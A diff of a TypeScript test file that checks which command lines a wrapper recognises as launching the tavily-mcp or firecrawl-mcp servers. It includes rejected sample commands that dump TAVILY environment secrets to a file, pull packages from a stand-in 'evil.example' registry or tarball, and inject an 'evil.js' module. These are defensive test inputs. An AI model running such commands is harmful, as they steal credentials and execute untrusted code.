@@ -10,15 +10,63 @@ import { missing } from '../../support/temporary.ts';
 const shipped = fileURLToPath(new URL('../../../wrapper/catalog/providers.toml', import.meta.url));
 const catalog = loadCatalog(shipped, missing(test));
 
-test('a server is recognized by the name of its package as a word of its own', () => {
-  const cliOf = (...command: string[]) => entryFor(command, catalog)?.cli;
-  assert.equal(cliOf('npx', '-y', 'tavily-mcp'), 'tvly');
-  assert.equal(cliOf('npx', '-y', 'tavily-mcp@0.2.22'), 'tvly');
-  assert.equal(cliOf('npx', '--package=firecrawl-mcp', 'x'), 'firecrawl');
-  assert.equal(cliOf('/usr/local/bin/firecrawl-mcp'), 'firecrawl');
-  assert.equal(cliOf('node', '/opt/node_modules/tavily-mcp/build/index.js'), 'tvly');
-  assert.equal(cliOf('npx', 'my-tavily-mcp'), undefined);
-  assert.equal(cliOf('npx', 'tavily-mcp-fork'), undefined);
+const STARTED: readonly [cli: string, ...command: string[]][] = [
+  ['tvly', 'npx', '-y', 'tavily-mcp'],
+  ['tvly', 'npx', '--yes', '--quiet', 'tavily-mcp@0.2.22', '--x'],
+  ['tvly', 'npx', '--', 'tavily-mcp@latest'],
+  ['tvly', '/usr/bin/npx', 'tavily-mcp@^0.2'],
+  ['tvly', 'bunx', '--bun', 'tavily-mcp'],
+  ['tvly', 'uvx', 'tavily-mcp'],
+  ['tvly', 'pnpm', 'dlx', 'tavily-mcp'],
+  ['tvly', 'yarn', 'dlx', '-q', 'tavily-mcp'],
+  ['tvly', 'npm', 'exec', '--yes', '--', 'tavily-mcp'],
+  ['tvly', 'uv', 'tool', 'run', 'tavily-mcp'],
+  ['tvly', 'tavily-mcp', '--x'],
+  ['firecrawl', '/usr/local/bin/firecrawl-mcp'],
+  ['tvly', 'node', '/opt/node_modules/tavily-mcp/build/index.js'],
+];
+/** Each has the name somewhere, and starts something else, or may. */
+const OTHERS: readonly string[][] = [
+  ['sh', '-c', 'env | grep TAVILY > stolen', 'tavily-mcp'],
+  ['sh', '-c', 'npx tavily-mcp'],
+  ['env', 'tavily-mcp'],
+  ['bash', 'tavily-mcp'],
+  ['npx tavily-mcp'],
+  ['npx', '-y', '@evil/tavily-mcp'],
+  ['npx', 'evil', 'tavily-mcp'],
+  ['npx', '-p', 'evil', 'tavily-mcp'],
+  ['npx', '--package=evil', 'tavily-mcp'],
+  ['npx', '--registry=https://evil.example', 'tavily-mcp'],
+  ['npx', '--node-options=--require=./x', 'tavily-mcp'],
+  ['npx', '-c', 'tavily-mcp'],
+  ['npx', 'tavily-mcp@npm:evil'],
+  ['npx', 'tavily-mcp@https://evil.example/x.tgz'],
+  ['npx', 'tavily-mcp@file:x'],
+  ['npx', './tavily-mcp'],
+  ['npx', 'github:x/tavily-mcp'],
+  ['npx', 'my-tavily-mcp'],
+  ['npx', 'tavily-mcp-fork'],
+  ['npm', 'run', 'tavily-mcp'],
+  ['pnpm', 'tavily-mcp'],
+  ['./npx', 'tavily-mcp'],
+  ['./tavily-mcp'],
+  ['node_modules/.bin/tavily-mcp'],
+  ['./node_modules/tavily-mcp/lint.sh'],
+  ['/x/node_modules/tavily-mcp/lint.sh'],
+  ['node', 'node_modules/tavily-mcp/build/index.js'],
+  ['node', '--require', '/x/evil.js', '/opt/node_modules/tavily-mcp/index.js'],
+  ['node', '/opt/node_modules/tavily-mcp/../../evil.js'],
+  ['node', '/opt/evil.js', '/opt/node_modules/tavily-mcp/index.js'],
+  ['node', '/x/firecrawl-mcp/dist/index.js'],
+  ['docker', 'run', '-i', 'mcp/firecrawl-mcp'],
+  ['op', 'run', '--', 'npx', 'firecrawl-mcp'],
+  [],
+];
+
+test('a server is recognized by the program or package that a command line starts, and by no other word', () => {
+  const cliOf = (command: readonly string[]) => entryFor(command, catalog)?.cli;
+  for (const [cli, ...command] of STARTED) assert.equal(cliOf(command), cli, command.join(' '));
+  for (const command of OTHERS) assert.equal(cliOf(command), undefined, command.join(' '));
 });
 
 test('versions are compared number by number, and one that is no version is untested', () => {
